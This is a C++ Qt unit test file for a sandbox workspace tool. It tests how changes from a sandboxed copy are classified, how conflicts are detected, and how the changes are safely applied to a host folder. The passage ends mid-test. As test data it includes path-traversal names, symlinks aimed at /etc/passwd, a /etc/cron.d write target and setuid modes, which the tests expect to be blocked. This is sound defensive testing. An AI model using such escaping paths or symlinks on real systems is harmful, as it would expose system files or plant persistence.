// The change set of a copied workspace: classification (base / sandbox / host), conflicts, path
// safety, and applying it to a real host folder, with a second real folder standing in for the
// sandbox.

#include "core/workspace/WorkspaceChangeSet.h"
#include "core/workspace/WorkspaceFolder.h"
#include "core/workspace/WorkspaceManifest.h"
#include "tests/core/workspace/WorkspaceTestTree.h"

#include <QCryptographicHash>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

using namespace Terrarium;
using namespace Terrarium::Core;
using namespace Qt::StringLiterals;
using Type = WorkspaceEntry::Type;
using Kind = WorkspaceChange::Kind;

namespace {

QByteArray sha(const QByteArray &data)
{
    return QCryptographicHash::hash(data, QCryptographicHash::Sha256).toHex();
}

// One entry from a short spec: "f:CONTENT[:MODE]", "d[:MODE]", "l:TARGET", "o", "e" (a file
// that could not be read); "" for none. Modes are octal.
std::optional<WorkspaceEntry> entryFrom(const QString &path, const QString &spec)
{
    if (spec.isEmpty())
        return std::nullopt;
    const QStringList parts = spec.split(u':');
    WorkspaceEntry entry;
    entry.path = path;
    const QString kind = parts.at(0);
    if (kind == u"f") {
        entry.type = Type::File;
        entry.sha256 = sha(parts.value(1).toUtf8());
        entry.size = parts.value(1).size();
        entry.mode = parts.size() > 2 ? parts.at(2).toInt(nullptr, 8) : 0644;
    } else if (kind == u"d") {
        entry.type = Type::Directory;
        entry.mode = parts.size() > 1 ? parts.at(1).toInt(nullptr, 8) : 0755;
    } else if (kind == u"l") {
        entry.type = Type::Symlink;
        entry.target = spec.mid(2);
        entry.mode = 0777;
    } else if (kind == u"o") {
        entry.type = Type::Other;
        entry.mode = 0644;
    } else if (kind == u"e") {
        entry.type = Type::File;
        entry.mode = 0644;
        entry.error = u"Permission denied"_s;
    }
    return entry;
}

WorkspaceManifest manifestOf(const QString &path, const QString &spec)
{
    const std::optional<WorkspaceEntry> entry = entryFrom(path, spec);
    return WorkspaceManifest(entry ? QList<WorkspaceEntry>{*entry} : QList<WorkspaceEntry>{});
}

// "kind[ conflict][ blocked]" of the change at path, "-" for none.
QString describe(const WorkspaceChangeSet &set, const QString &path)
{
    const WorkspaceChange *change = set.find(path);
    if (!change)
        return u"-"_s;
    QString text = WorkspaceChange::kindName(change->kind);
    if (change->conflict)
        text += u" conflict";
    if (change->isBlocked())
        text += u" blocked";
    return text;
}

bool copyTree(const QString &from, const QString &to)
{
    return QProcess::execute(u"cp"_s, {u"-a"_s, from + u"/."_s, to}) == 0;
}

// A host folder, a sandbox folder that starts as its copy, and the base manifest.
struct Fixture
{
    QTemporaryDir hostDir;
    QTemporaryDir sandboxDir;
    Tests::WorkspaceTestTree host{hostDir.path()};
    Tests::WorkspaceTestTree sandbox{sandboxDir.path()};
    WorkspaceManifest base;

    bool copy()
    {
        if (!copyTree(hostDir.path(), sandboxDir.path()))
            return false;
        const Result<WorkspaceManifest> scanned = WorkspaceManifest::scan(hostDir.path());
        if (!scanned)
            return false;
        base = *scanned;
        return true;
    }
    Result<WorkspaceChangeSet> changes() const
    {
        const Result<WorkspaceManifest> s = WorkspaceManifest::scan(sandboxDir.path());
        const Result<WorkspaceManifest> h = WorkspaceManifest::scan(hostDir.path());
        if (!s || !h)
            return makeError(ErrorCode::IoError, u"scan failed"_s);
        return WorkspaceChangeSet::compute(base, *s, *h);
    }
    WorkspaceChangeSet::ContentProvider provider() const
    {
        const QString folder = sandboxDir.path();
        return [folder](const WorkspaceChange &change, qint64 maxBytes) {
            WorkspaceFolder sandbox(folder);
            if (Result<void> opened = sandbox.open(); !opened)
                return Result<QByteArray>(std::unexpected(opened.error()));
            return sandbox.readFile(change.path, maxBytes);
        };
    }
};

const char *why(const Result<WorkspaceChangeSet> &result)
{
    static QByteArray text;
    text = result ? QByteArray() : result.error().message.toUtf8();
    return text.constData();
}

} // namespace

class tst_WorkspaceChangeSet : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void classification_data();
    void classification();
    void unsafeSandboxPathsAreBlocked();
    void linkOnTheHostAboveAPathBlocksIt();
    void deletedFolderWithNewHostFilesConflicts();
    void excludedEntriesAreNoDeletions();
    void opaqueFoldersAreNotCompared();
    void truncatedManifestsAreRefused();
    void setuidBitIsANoteNotAChange();

    void applyAll();
    void applySubset();
    void conflictsNeedOverwrite();
    void hostEditedWhileReviewing();
    void sandboxChangedAfterListing();
    void neverWritesThroughAHostSymlink();
    void refusesEscapingPaths();
    void linkTargetThroughAHostLinkIsRefused();
    void folderBecomesFileAndBack();
    void readOnlyFolderIsFilledFirst();
    void describeFillsDiffs();
    void autorunChangesNeedTheirOwnYes();
};

void tst_WorkspaceChangeSet::classification_data()
{
    QTest::addColumn<QString>("base");
    QTest::addColumn<QString>("sandbox");
    QTest::addColumn<QString>("host");
    QTest::addColumn<QString>("expected");
    QTest::newRow("untouched") << "f:a"
                               << "f:a"
                               << "f:a"
                               << "-";
    QTest::newRow("only the host edited") << "f:a"
                                          << "f:a"
                                          << "f:b"
                                          << "-";
    QTest::newRow("sandbox edited") << "f:a"
                                    << "f:b"
                                    << "f:a"
                                    << "modified";
    QTest::newRow("both made the same edit") << "f:a"
                                             << "f:b"
                                             << "f:b"
                                             << "-";
    QTest::newRow("both edited differently") << "f:a"
                                             << "f:b"
                                             << "f:c"
                                             << "modified conflict";
    QTest::newRow("sandbox added") << ""
                                   << "f:a"
                                   << ""
                                   << "added";
    QTest::newRow("both added, differently") << ""
                                             << "f:a"
                                             << "f:b"
                                             << "added conflict";
    QTest::newRow("both added the same") << ""
                                         << "f:a"
                                         << "f:a"
                                         << "-";
    QTest::newRow("sandbox deleted") << "f:a"
                                     << ""
                                     << "f:a"
                                     << "deleted";
    QTest::newRow("deleted, host edited") << "f:a"
                                          << ""
                                          << "f:b"
                                          << "deleted conflict";
    QTest::newRow("both deleted") << "f:a"
                                  << ""
                                  << ""
                                  << "-";
    QTest::newRow("edited, host deleted") << "f:a"
                                          << "f:b"
                                          << ""
                                          << "modified conflict";
    QTest::newRow("mode only") << "f:a:644"
                               << "f:a:755"
                               << "f:a:644"
                               << "mode_changed";
    QTest::newRow("contents and mode") << "f:a:644"
                                       << "f:b:755"
                                       << "f:a:644"
                                       << "modified";
    QTest::newRow("host changed the mode") << "f:a:644"
                                           << "f:b:644"
                                           << "f:a:600"
                                           << "modified conflict";
    QTest::newRow("file became folder") << "f:a"
                                        << "d"
                                        << "f:a"
                                        << "type_changed";
    QTest::newRow("folder became link") << "d"
                                        << "l:x"
                                        << "d"
                                        << "type_changed";
    QTest::newRow("link retargeted") << "l:x"
                                     << "l:y"
                                     << "l:x"
                                     << "modified";
    QTest::newRow("folder mode") << "d:755"
                                 << "d:700"
                                 << "d:755"
                                 << "mode_changed";
    QTest::newRow("link out, absolute") << ""
                                        << "l:/etc/passwd"
                                        << ""
                                        << "added blocked";
    QTest::newRow("link out, relative") << ""
                                        << "l:../../x"
                                        << ""
                                        << "added blocked";
    QTest::newRow("link out through a name") << ""
                                             << "l:a/../../x"
                                             << ""
                                             << "added blocked";
    QTest::newRow("link inside") << ""
                                 << "l:../other"
                                 << ""
                                 << "added";
    QTest::newRow("special file") << ""
                                  << "o"
                                  << ""
                                  << "added blocked";
    QTest::newRow("unreadable in the sandbox") << "f:a"
                                               << "e"
                                               << "f:a"
                                               << "modified blocked";
    QTest::newRow("deleted on both sides") << "d"
                                           << ""
                                           << ""
                                           << "-";
}

void tst_WorkspaceChangeSet::classification()
{
    QFETCH(QString, base);
    QFETCH(QString, sandbox);
    QFETCH(QString, host);
    QFETCH(QString, expected);
    // At depth 2, so that "../other" stays inside and "../../x" does not.
    const QString path = u"dir/p"_s;
    const QList<WorkspaceEntry> folder{*entryFrom(u"dir"_s, u"d"_s)};
    const auto withFolder = [&](const QString &spec) {
        QList<WorkspaceEntry> entries = folder;
        if (const std::optional<WorkspaceEntry> entry = entryFrom(path, spec))
            entries.append(*entry);
        return WorkspaceManifest(entries);
    };
    const Result<WorkspaceChangeSet> set =
        WorkspaceChangeSet::compute(withFolder(base), withFolder(sandbox), withFolder(host));
    QVERIFY2(set, why(set));
    QCOMPARE(describe(*set, path), expected);
    QCOMPARE(set->changes().size(), expected == u"-" ? 0 : 1);
}

void tst_WorkspaceChangeSet::unsafeSandboxPathsAreBlocked()
{
    const QStringList unsafe{u"../escape"_s, u"/etc/cron.d/x"_s,
                             u"a//b"_s,      u"a/./b"_s,
                             u"a/../../b"_s, QString(u"nul" + QString(QChar(0)) + u"x")};
    QList<WorkspaceEntry> entries;
    for (const QString &path : unsafe)
        entries.append(*entryFrom(path, u"f:evil"_s));
    const Result<WorkspaceChangeSet> set =
        WorkspaceChangeSet::compute({}, WorkspaceManifest(entries), {});
    QVERIFY2(set, why(set));
    QCOMPARE(set->changes().size(), unsafe.size());
    for (const WorkspaceChange &change : set->changes())
        QVERIFY2(change.isBlocked(), qPrintable(change.path));
    WorkspaceApplyReport report;
    QVERIFY(set->plan(WorkspaceSelection::everything(), &report).isEmpty());
    QCOMPARE(report.skipped.size(), unsafe.size());

    // Non-UTF-8 names are never written under a lossy spelling either.
    WorkspaceEntry lossy = *entryFrom(u"bad\ufffd"_s, u"f:x"_s);
    lossy.exactName = false;
    const Result<WorkspaceChangeSet> raw =
        WorkspaceChangeSet::compute({}, WorkspaceManifest({lossy}), {});
    QVERIFY(raw);
    QCOMPARE(describe(*raw, u"bad\ufffd"_s), u"added blocked"_s);
}

void tst_WorkspaceChangeSet::linkOnTheHostAboveAPathBlocksIt()
{
    const WorkspaceManifest base({*entryFrom(u"a"_s, u"l:elsewhere"_s)});
    WorkspaceManifest sandbox(
        {*entryFrom(u"a"_s, u"l:elsewhere"_s), *entryFrom(u"a/x"_s, u"f:1"_s)});
    const Result<WorkspaceChangeSet> set = WorkspaceChangeSet::compute(base, sandbox, base);
    QVERIFY(set);
    QCOMPARE(describe(*set, u"a/x"_s), u"added blocked"_s);
    QVERIFY(set->find(u"a/x"_s)->blockedReason.contains(u"link"));
}

void tst_WorkspaceChangeSet::deletedFolderWithNewHostFilesConflicts()
{
    const WorkspaceManifest base({*entryFrom(u"d"_s, u"d"_s), *entryFrom(u"d/a"_s, u"f:1"_s),
                                  *entryFrom(u"e"_s, u"d"_s), *entryFrom(u"e/a"_s, u"f:1"_s)});
    const WorkspaceManifest sandbox;
    const WorkspaceManifest host({*entryFrom(u"d"_s, u"d"_s), *entryFrom(u"d/a"_s, u"f:1"_s),
                                  *entryFrom(u"d/mine"_s, u"f:2"_s), *entryFrom(u"e"_s, u"d"_s),
                                  *entryFrom(u"e/a"_s, u"f:1"_s)});
    const Result<WorkspaceChangeSet> set = WorkspaceChangeSet::compute(base, sandbox, host);
    QVERIFY(set);
    QCOMPARE(describe(*set, u"d"_s), u"deleted conflict"_s);
    QCOMPARE(describe(*set, u"d/a"_s), u"deleted"_s);
    QCOMPARE(describe(*set, u"d/mine"_s), u"-"_s);
    QCOMPARE(describe(*set, u"e"_s), u"deleted"_s);
    QCOMPARE(describe(*set, u"e/a"_s), u"deleted"_s);
}

void tst_WorkspaceChangeSet::excludedEntriesAreNoDeletions()
{
    WorkspaceManifest base({*entryFrom(u"out"_s, u"l:/etc"_s), *entryFrom(u"pipe"_s, u"o"_s)});
    base.setExcluded(u"out"_s);
    base.setExcluded(u"pipe"_s);
    const WorkspaceManifest host(
        {*entryFrom(u"out"_s, u"l:/etc"_s), *entryFrom(u"pipe"_s, u"o"_s)});
    const Result<WorkspaceChangeSet> untouched =
        WorkspaceChangeSet::compute(base, WorkspaceManifest(), host);
    QVERIFY(untouched);
    QVERIFY(untouched->isEmpty());
    // The sandbox made its own "out" where the host has one it never saw.
    const Result<WorkspaceChangeSet> made =
        WorkspaceChangeSet::compute(base, manifestOf(u"out"_s, u"f:mine"_s), host);
    QVERIFY(made);
    QCOMPARE(describe(*made, u"out"_s), u"type_changed conflict"_s);
}

void tst_WorkspaceChangeSet::opaqueFoldersAreNotCompared()
{
    const WorkspaceManifest base({*entryFrom(u"mnt"_s, u"d"_s), *entryFrom(u"mnt/x"_s, u"f:1"_s)});
    WorkspaceEntry mount = *entryFrom(u"mnt"_s, u"d"_s);
    mount.otherFileSystem = true;
    const Result<WorkspaceChangeSet> set =
        WorkspaceChangeSet::compute(base, WorkspaceManifest({mount}), base);
    QVERIFY(set);
    QVERIFY(set->isEmpty());
    QCOMPARE(set->notes().size(), 1);
    QVERIFY(set->notes().first().contains(u"mnt"));
}

void tst_WorkspaceChangeSet::truncatedManifestsAreRefused()
{
    const WorkspaceManifest truncated({*entryFrom(u"a"_s, u"f:1"_s)}, true);
    const Result<WorkspaceChangeSet> sandboxSide =
        WorkspaceChangeSet::compute(WorkspaceManifest(), truncated, WorkspaceManifest());
    QVERIFY(!sandboxSide);
    QCOMPARE(sandboxSide.error().code, ErrorCode::LimitReached);
    QVERIFY(!WorkspaceChangeSet::compute(WorkspaceManifest(), WorkspaceManifest(), truncated));
}

void tst_WorkspaceChangeSet::setuidBitIsANoteNotAChange()
{
    const Result<WorkspaceChangeSet> onlyBits = WorkspaceChangeSet::compute(
        manifestOf(u"t"_s, u"f:a:755"_s), manifestOf(u"t"_s, u"f:a:6755"_s),
        manifestOf(u"t"_s, u"f:a:755"_s));
    QVERIFY(onlyBits);
    QVERIFY(onlyBits->isEmpty());
    const Result<WorkspaceChangeSet> added = WorkspaceChangeSet::compute(
        WorkspaceManifest(), manifestOf(u"t"_s, u"f:a:4755"_s), WorkspaceManifest());
    QVERIFY(added);
    QCOMPARE(added->changes().first().notes.size(), 1);
}

void tst_WorkspaceChangeSet::applyAll()
{
    Fixture f;
    QVERIFY(f.host.file(u"src/main.c"_s, "int main() { return 0; }\n"));
    QVERIFY(f.host.file(u"src/old.c"_s, "old\n"));
    QVERIFY(f.host.file(u"doomed/a"_s, "a"));
    QVERIFY(f.host.file(u"doomed/deeper/b"_s, "b"));
    QVERIFY(f.host.file(u"script.sh"_s, "echo\n", 0644));
    QVERIFY(f.host.file(u".hidden"_s, "h"));
    QVERIFY(f.copy());

    QVERIFY(f.sandbox.file(u"src/main.c"_s, "int main() { return 1; }\n"));
    QVERIFY(QFile::remove(f.sandbox.path(u"src/old.c"_s)));
    QVERIFY(QDir(f.sandbox.path(u"doomed"_s)).removeRecursively());
    QVERIFY(f.sandbox.file(u"script.sh"_s, "echo\n", 0755));
    QVERIFY(f.sandbox.file(u"new/deep/file.txt"_s, "fresh\n"));
    QVERIFY(f.sandbox.dir(u"new/empty"_s, 0750));
    QVERIFY(f.sandbox.file(u"tool"_s, "#!/bin/sh\n", 04755));
    QVERIFY(f.sandbox.link(u"new/link"_s, u"deep/file.txt"_s));
    QVERIFY(f.sandbox.link(u"escape"_s, u"../../../etc/passwd"_s));
    QVERIFY(f.sandbox.fifo(u"fifo"_s));
    QVERIFY(f.sandbox.file(u"Ünïcødé 名前.txt"_s, "ü\n"));
    QVERIFY(f.sandbox.file(u".hidden"_s, "H"));

    const Result<WorkspaceChangeSet> set = f.changes();
    QVERIFY2(set, why(set));
    QCOMPARE(describe(*set, u"src/main.c"_s), u"modified"_s);
    QCOMPARE(describe(*set, u"src/old.c"_s), u"deleted"_s);
    QCOMPARE(describe(*set, u"doomed"_s), u"deleted"_s);
    QCOMPARE(describe(*set, u"doomed/deeper/b"_s), u"deleted"_s);
    QCOMPARE(describe(*set, u"script.sh"_s), u"mode_changed"_s);
    QCOMPARE(describe(*set, u"new"_s), u"added"_s);
    QCOMPARE(describe(*set, u"new/link"_s), u"added"_s);
    QCOMPARE(describe(*set, u"escape"_s), u"added blocked"_s);
    QCOMPARE(describe(*set, u"fifo"_s), u"added blocked"_s);
    QCOMPARE(describe(*set, u".hidden"_s), u"modified"_s);
    QCOMPARE(set->conflictCount(), 0);
    QCOMPARE(set->blockedCount(), 2);

    const Result<WorkspaceApplyReport> report =
        set->apply(f.hostDir.path(), WorkspaceSelection::everything(), f.provider());
    QVERIFY(report);
    QCOMPARE(report->skipped.size(), 2);
    QVERIFY(!report->skipReason(u"escape"_s).isEmpty());
    QVERIFY(!report->skipReason(u"fifo"_s).isEmpty());
    QCOMPARE(report->applied.size(), set->changes().size() - 2);

    QCOMPARE(f.host.read(u"src/main.c"_s), QByteArray("int main() { return 1; }\n"));
    QVERIFY(!f.host.exists(u"src/old.c"_s));
    QVERIFY(!f.host.exists(u"doomed"_s));
    QCOMPARE(f.host.mode(u"script.sh"_s), 0755);
    QCOMPARE(f.host.read(u"new/deep/file.txt"_s), QByteArray("fresh\n"));
    QCOMPARE(f.host.mode(u"new/empty"_s), 0750);
    QCOMPARE(f.host.mode(u"tool"_s), 0755); // setuid never
    QVERIFY(f.host.isLink(u"new/link"_s));
    QCOMPARE(f.host.linkTarget(u"new/link"_s), u"deep/file.txt"_s);
    QVERIFY(!f.host.exists(u"escape"_s));
    QVERIFY(!f.host.exists(u"fifo"_s));
    QCOMPARE(f.host.read(u"Ünïcødé 名前.txt"_s), QByteArray("ü\n"));
    QCOMPARE(f.host.read(u".hidden"_s), QByteArray("H"));

    // Nothing is left to do, apart from what is blocked, and no temporary files stayed.
    const Result<WorkspaceChangeSet> after = f.changes();
    QVERIFY(after);
    QCOMPARE(after->changes().size(), 2); // escape and fifo; tool's setuid bit is no change
    for (const QString &name : QDir(f.hostDir.path()).entryList(QDir::Hidden | QDir::Files))
        QVERIFY2(!name.startsWith(u".terrarium-"), qPrintable(name));
}

void tst_WorkspaceChangeSet::applySubset()
{
    Fixture f;
    QVERIFY(f.host.file(u"a"_s, "a"));
    QVERIFY(f.host.file(u"b"_s, "b"));
    QVERIFY(f.copy());
    QVERIFY(f.sandbox.file(u"a"_s, "A"));
    QVERIFY(f.sandbox.file(u"b"_s, "B"));
    QVERIFY(f.sandbox.file(u"c"_s, "C"));
    const Result<WorkspaceChangeSet> set = f.changes();
    QVERIFY(set);
    QCOMPARE(set->changes().size(), 3);
    const Result<WorkspaceApplyReport> report =
        set->apply(f.hostDir.path(), WorkspaceSelection::only({u"b"_s, u"c"_s}), f.provider());
    QVERIFY(report);
    QCOMPARE(report->applied, (QStringList{u"b"_s, u"c"_s}));
    QVERIFY(report->skipped.isEmpty());
    QCOMPARE(f.host.read(u"a"_s), QByteArray("a"));
    QCOMPARE(f.host.read(u"b"_s), QByteArray("B"));
    QCOMPARE(f.host.read(u"c"_s), QByteArray("C"));
}

void tst_WorkspaceChangeSet::conflictsNeedOverwrite()
{
    Fixture f;
    QVERIFY(f.host.file(u"notes.txt"_s, "base\n"));
    QVERIFY(f.copy());
    QVERIFY(f.sandbox.file(u"notes.txt"_s, "sandbox\n"));
    QVERIFY(f.host.file(u"notes.txt"_s, "my own edit\n"));
    const Result<WorkspaceChangeSet> set = f.changes();
    QVERIFY(set);
    QCOMPARE(describe(*set, u"notes.txt"_s), u"modified conflict"_s);

    const Result<WorkspaceApplyReport> kept =
        set->apply(f.hostDir.path(), WorkspaceSelection::everything(), f.provider());
    QVERIFY(kept);
    QVERIFY(kept->applied.isEmpty());
    QVERIFY(kept->skipReason(u"notes.txt"_s).contains(u"changed on the host"));
    QCOMPARE(f.host.read(u"notes.txt"_s), QByteArray("my own edit\n"));

    WorkspaceSelection overwrite = WorkspaceSelection::everything();
    overwrite.overwrite.insert(u"notes.txt"_s);
    const Result<WorkspaceApplyReport> replaced =
        set->apply(f.hostDir.path(), overwrite, f.provider());
    QVERIFY(replaced);
    QCOMPARE(replaced->applied, QStringList{u"notes.txt"_s});
    QCOMPARE(f.host.read(u"notes.txt"_s), QByteArray("sandbox\n"));
}

void tst_WorkspaceChangeSet::hostEditedWhileReviewing()
{
    Fixture f;
    QVERIFY(f.host.file(u"f"_s, "base"));
    QVERIFY(f.copy());
    QVERIFY(f.sandbox.file(u"f"_s, "sandbox"));
    const Result<WorkspaceChangeSet> set = f.changes();
    QVERIFY(set);
    QCOMPARE(describe(*set, u"f"_s), u"modified"_s);
    QVERIFY(f.host.file(u"f"_s, "edited meanwhile"));
    const Result<WorkspaceApplyReport> report =
        set->apply(f.hostDir.path(), WorkspaceSelection::everything(), f.provider());
    QVERIFY(report);
    QVERIFY(report->applied.isEmpty());
    QVERIFY(report->skipReason(u"f"_s).contains(u"after the changes were listed"));
    QCOMPARE(f.host.read(u"f"_s), QByteArray("edited meanwhile"));
}

void tst_WorkspaceChangeSet::sandboxChangedAfterListing()
{
    Fixture f;
    QVERIFY(f.copy());
    QVERIFY(f.sandbox.file(u"f"_s, "listed"));
    const Result<WorkspaceChangeSet> set = f.changes();
    QVERIFY(set);
    QVERIFY(f.sandbox.file(u"f"_s, "swapped"));
    const Result<WorkspaceApplyReport> report =
        set->apply(f.hostDir.path(), WorkspaceSelection::everything(), f.provider());
    QVERIFY(report);
    QVERIFY(report->skipReason(u"f"_s).contains(u"in the sandbox"));
    QVERIFY(!f.host.exists(u"f"_s));
}

void tst_WorkspaceChangeSet::neverWritesThroughAHostSymlink()
{
    QTemporaryDir outside;
    Fixture f;
    QVERIFY(f.host.link(u"linked"_s, outside.path()));
    QVERIFY(f.copy());
    // The sandbox (whose copy of the link would not have been made) has a folder there.
    QVERIFY(QFile::remove(f.sandbox.path(u"linked"_s)));
    QVERIFY(f.sandbox.file(u"linked/evil.txt"_s, "evil"));
    f.base.setExcluded(u"linked"_s);
    const Result<WorkspaceChangeSet> set = f.changes();
    QVERIFY(set);
    QCOMPARE(describe(*set, u"linked"_s), u"type_changed conflict"_s);
    QCOMPARE(describe(*set, u"linked/evil.txt"_s), u"added blocked"_s);

    const Result<WorkspaceApplyReport> kept =
        set->apply(f.hostDir.path(), WorkspaceSelection::everything(), f.provider());
    QVERIFY(kept);
    QVERIFY(kept->applied.isEmpty());
    QVERIFY(!QFileInfo::exists(outside.filePath(u"evil.txt"_s)));
    QVERIFY(f.host.isLink(u"linked"_s));

    // Forced, the link itself is replaced by a folder (unlink, never through it); the file below
    // stays blocked.
    WorkspaceSelection force = WorkspaceSelection::everything();
    force.overwriteAll = true;
    const Result<WorkspaceApplyReport> forced = set->apply(f.hostDir.path(), force, f.provider());
    QVERIFY(forced);
    QCOMPARE(forced->applied, QStringList{u"linked"_s});
    QVERIFY(!QFileInfo::exists(outside.filePath(u"evil.txt"_s)));
    QVERIFY(QDir(outside.path()).exists());

    // And WorkspaceFolder refuses on its own, whatever a change set says.
    QVERIFY(f.host.link(u"other"_s, outside.path()));
    WorkspaceFolder folder(f.hostDir.path());
    QVERIFY(folder.open());
    WorkspaceChange change;
    change.path = u"other/x.txt"_s;
    change.kind = Kind::Added;
    change.sandbox = entryFrom(change.path, u"f:x"_s);
    const Result<void> written =
        folder.apply({WorkspaceApplyStep::Action::WriteFile, 0, true}, change, "x");
    QVERIFY(!written);
    QCOMPARE(written.error().code, ErrorCode::PermissionDenied);
    QVERIFY(!QFileInfo::exists(outside.filePath(u"x.txt"_s)));
    // Nor does it write through a link at the path itself: the link is replaced.
    QVERIFY(f.host.link(u"direct"_s, outside.filePath(u"target.txt"_s)));
    change.path = u"direct"_s;
    change.host = entryFrom(change.path, u"l:"_s + outside.filePath(u"target.txt"_s));
    QVERIFY(folder.apply({WorkspaceApplyStep::Action::WriteFile, 0, true}, change, "x"));
    QVERIFY(!QFileInfo::exists(outside.filePath(u"target.txt"_s)));
    QVERIFY(!f.host.isLink(u"direct"_s));
}

void tst_WorkspaceChangeSet::refusesEscapingPaths()
{
    QTemporaryDir parent;
    const QString hostDir = parent.filePath(u"host"_s);
    QVERIFY(QDir().mkpath(hostDir));
    const QList<WorkspaceEntry> evil{*entryFrom(u"../escape.txt"_s, u"f:evil"_s),
                                     *entryFrom(u"a/../../escape2.txt"_s, u"f:evil"_s),
                                     *entryFrom(parent.filePath(u"abs.txt"_s), u"f:evil"_s)};
    const Result<WorkspaceChangeSet> set =
        WorkspaceChangeSet::compute({}, WorkspaceManifest(evil), {});
    QVERIFY(set);
    const auto provider = [](const WorkspaceChange &, qint64) {
        return Result<QByteArray>(QByteArray("evil"));
    };
    WorkspaceSelection force = WorkspaceSelection::everything();
    force.overwriteAll = true;
    const Result<WorkspaceApplyReport> report = set->apply(hostDir, force, provider);
    QVERIFY(report);
    QVERIFY(report->applied.isEmpty());
    QCOMPARE(report->skipped.size(), 3);
    QVERIFY(!QFileInfo::exists(parent.filePath(u"escape.txt"_s)));
    QVERIFY(!QFileInfo::exists(parent.filePath(u"escape2.txt"_s)));
    QVERIFY(!QFileInfo::exists(parent.filePath(u"abs.txt"_s)));

    // WorkspaceFolder checks paths itself too.
    WorkspaceFolder folder(hostDir);
    QVERIFY(folder.open());
    for (const WorkspaceEntry &entry : evil) {
        WorkspaceChange change;
        change.path = entry.path;
        change.sandbox = entry;
        QVERIFY(!folder.apply({WorkspaceApplyStep::Action::WriteFile, 0, false}, change, "evil"));
        QVERIFY(!folder.apply({WorkspaceApplyStep::Action::Remove, 0, false}, change));
    }
    QVERIFY(!QFileInfo::exists(parent.filePath(u"escape.txt"_s)));
}

void tst_WorkspaceChangeSet::linkTargetThroughAHostLinkIsRefused()
{
    QTemporaryDir outside;
    QVERIFY(Tests::WorkspaceTestTree(outside.path()).file(u"secret"_s, "s"));
    Fixture f;
    QVERIFY(f.host.link(u"out"_s, outside.path())); // the user's own link
    QVERIFY(f.copy());
    QVERIFY(f.sandbox.link(u"innocent"_s, u"out/secret"_s));
    const Result<WorkspaceChangeSet> set = f.changes();
    QVERIFY(set);
    QCOMPARE(describe(*set, u"innocent"_s), u"added"_s); // by its spelling it stays inside
    const Result<WorkspaceApplyReport> report =
        set->apply(f.hostDir.path(), WorkspaceSelection::everything(), f.provider());
    QVERIFY(report);
    QVERIFY(report->skipReason(u"innocent"_s).contains(u"through the link out"));
    QVERIFY(!f.host.exists(u"innocent"_s));
}

void tst_WorkspaceChangeSet::folderBecomesFileAndBack()
{
    Fixture f;
    QVERIFY(f.host.file(u"x/a"_s, "a"));
    QVERIFY(f.host.file(u"x/b/c"_s, "c"));
    QVERIFY(f.host.file(u"y"_s, "y"));
    QVERIFY(f.copy());
    QVERIFY(QDir(f.sandbox.path(u"x"_s)).removeRecursively());
    QVERIFY(f.sandbox.file(u"x"_s, "now a file"));
    QVERIFY(QFile::remove(f.sandbox.path(u"y"_s)));
    QVERIFY(f.sandbox.file(u"y/inner"_s, "now a folder"));
    const Result<WorkspaceChangeSet> set = f.changes();
    QVERIFY(set);
    QCOMPARE(describe(*set, u"x"_s), u"type_changed"_s);
    QCOMPARE(describe(*set, u"y"_s), u"type_changed"_s);
    const Result<WorkspaceApplyReport> report =
        set->apply(f.hostDir.path(), WorkspaceSelection::everything(), f.provider());
    QVERIFY(report);
    QVERIFY2(report->skipped.isEmpty(), qPrintable(report->skipped.value(0).reason));
    QCOMPARE(f.host.read(u"x"_s), QByteArray("now a file"));
    QCOMPARE(f.host.read(u"y/inner"_s), QByteArray("now a folder"));

    // A folder removal whose contents were not accepted is skipped, not forced.
    Fixture g;
    QVERIFY(g.host.file(u"d/keep"_s, "k"));
    QVERIFY(g.copy());
    QVERIFY(QDir(g.sandbox.path(u"d"_s)).removeRecursively());
    const Result<WorkspaceChangeSet> partial = g.changes();
    QVERIFY(partial);
    const Result<WorkspaceApplyReport> only =
        partial->apply(g.hostDir.path(), WorkspaceSelection::only({u"d"_s}), g.provider());
    QVERIFY(only);
    QVERIFY(only->skipReason(u"d"_s).contains(u"still holds files"));
    QCOMPARE(g.host.read(u"d/keep"_s), QByteArray("k"));
}

void tst_WorkspaceChangeSet::readOnlyFolderIsFilledFirst()
{
    Fixture f;
    QVERIFY(f.copy());
    QVERIFY(f.sandbox.file(u"ro/a"_s, "a", 0444));
    QVERIFY(f.sandbox.file(u"ro/sub/b"_s, "b"));
    QVERIFY(f.sandbox.dir(u"ro/sub"_s, 0555));
    QVERIFY(f.sandbox.dir(u"ro"_s, 0555));
    const Result<WorkspaceChangeSet> set = f.changes();
    QVERIFY(set);
    const Result<WorkspaceApplyReport> report =
        set->apply(f.hostDir.path(), WorkspaceSelection::everything(), f.provider());
    QVERIFY(report);
    QVERIFY2(report->skipped.isEmpty(), qPrintable(report->skipped.value(0).reason));
    QCOMPARE(f.host.mode(u"ro"_s), 0555);
    QCOMPARE(f.host.mode(u"ro/sub"_s), 0555);
    QCOMPARE(f.host.mode(u"ro/a"_s), 0444);
    QCOMPARE(f.host.read(u"ro/sub/b"_s), QByteArray("b"));
    // QTemporaryDir must be able to clean up.
    QVERIFY(f.host.dir(u"ro/sub"_s, 0755) && f.host.dir(u"ro"_s, 0755));
    QVERIFY(f.sandbox.dir(u"ro/sub"_s, 0755) && f.sandbox.dir(u"ro"_s, 0755));
}

void tst_WorkspaceChangeSet::describeFillsDiffs()
{
    Fixture f;
    QVERIFY(f.host.file(u"text.txt"_s, "one\ntwo\nthree\n"));
    QVERIFY(f.host.file(u"gone.txt"_s, "bye\n"));
    QVERIFY(f.host.file(u"blob.bin"_s, QByteArray("\0\1\2", 3)));
    QVERIFY(f.copy());
    QVERIFY(f.sandbox.file(u"text.txt"_s, "one\n2\nthree\n"));
    QVERIFY(QFile::remove(f.sandbox.path(u"gone.txt"_s)));
    QVERIFY(f.sandbox.file(u"blob.bin"_s, QByteArray("\0\1\2\3", 4)));
    QVERIFY(f.sandbox.file(u"big.txt"_s, QByteArray(2 << 20, 'x')));
    Result<WorkspaceChangeSet> set = f.changes();
    QVERIFY(set);
    QVERIFY(set->describe(f.hostDir.path(), f.provider()));
    const WorkspaceDiff &text = set->find(u"text.txt"_s)->diff;
    QCOMPARE(text.kind(), WorkspaceDiff::Kind::Text);
    QCOMPARE(text.text(),
             u"--- a/text.txt\n+++ b/text.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n"_s);
    QCOMPARE(set->find(u"gone.txt"_s)->diff.text(),
